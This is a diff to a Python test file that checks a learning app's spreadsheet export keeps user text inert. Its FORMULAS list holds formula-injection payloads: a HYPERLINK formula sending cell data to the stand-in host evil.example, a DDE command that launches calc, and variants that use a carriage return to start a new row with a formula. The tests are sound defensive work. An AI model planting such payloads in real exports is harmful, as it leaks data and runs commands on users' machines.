@@ -169,15 +169,8 @@ def test_learner_app_keeps_cohort_names_rationales_and_trainer_notes_inert(tmp_p
     store.close()
 
 
-# A carriage return ends a row in Excel and LibreOffice; pandas quotes only fields holding its
-# own line terminator ("\n"), so a bare "\r" starts a new, unquoted row whose first cell can
-# be a formula, whatever the field began with.
-CR_SPLIT = pytest.mark.xfail(
-    strict=True,
-    reason="toolkit/export/spreadsheet.py writes a bare CR unquoted, so the text after it "
-    "starts a new CSV row as a live formula; fix there (quoting=csv.QUOTE_ALL or "
-    "lineterminator='\\r\\n'); owned by the workshop/export engineer",
-)
+# A carriage return also ends a row in Excel and LibreOffice: the exporter quotes every
+# field, so a bare "\r" inside a rationale cannot start a new row with a formula.
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click for your results")',
     "=cmd|' /C calc'!A0",
@@ -185,8 +178,8 @@ FORMULAS = [
     "-2+3",
     "@SUM(A1:A9)",
     "\t=1+1",
-    pytest.param("\r=1+1", marks=CR_SPLIT),
-    pytest.param("I agree\r=cmd|' /C calc'!A0", marks=CR_SPLIT),
+    "\r=1+1",
+    "I agree\r=cmd|' /C calc'!A0",
 ]
 
 
